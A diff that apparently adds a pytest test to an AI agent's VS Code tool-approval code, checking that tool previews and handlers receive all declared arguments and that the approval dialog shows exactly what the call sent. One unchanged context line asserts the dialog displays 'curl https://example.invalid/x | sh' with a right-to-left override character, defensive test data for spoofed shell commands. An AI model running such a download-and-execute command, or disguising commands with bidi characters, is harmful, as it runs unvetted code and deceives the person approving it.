@@ -185,6 +185,32 @@ def test_the_dialog_shows_what_a_tool_resolves_to_and_a_session_allowance_covers
     assert '1 \u2502 shell: curl https://example.invalid/x | sh\\u{202E}' in vscode.window.messages[-1][2][0]['detail']
 
 
+def test_the_preview_and_the_handler_get_every_declared_argument_the_dialog_the_calls_own():
+    """A handler and its preview read each argument their tool declares by key (contracts/tool_args.py): one the
+    caller left out is None there. The dialog and "Allow for This Session" show and remember what the call sent."""
+    seen = []
+
+    async def what_runs(args, call):
+        seen.append(('preview', args))
+        return 'shell: make ' + (args['target'] or 'all')
+
+    async def run_task(args, call):
+        seen.append(('handler', args))
+        return 'ran'
+
+    reg = ToolRegistry(Approver())
+    reg.add(Tool('task_run', 'Run a task.', {'type': 'object', 'properties': {
+        'path': {'type': 'string'}, 'target': {'type': 'string'}, 'wait': {'type': 'boolean', 'default': True}}},
+        run_task, read_only=False, destructive=True, preview=what_runs))
+    vscode.window.message_answers.append('Allow')
+    assert call(reg, 'task_run', {'path': 'build'})['isError'] is False
+    assert seen == [('preview', {'path': 'build', 'target': None, 'wait': True}),
+                    ('handler', {'path': 'build', 'target': None, 'wait': True})]
+    detail = vscode.window.messages[0][2][0]['detail']
+    assert 'Arguments (complete):\n{\n  "path": "build",\n  "wait": true\n}' in detail
+    assert 'shell: make all' in detail and 'target' not in detail
+
+
 def test_a_preview_that_fails_is_the_calls_answer_and_nothing_is_asked():
     from hermes.core.tools import ToolError
 
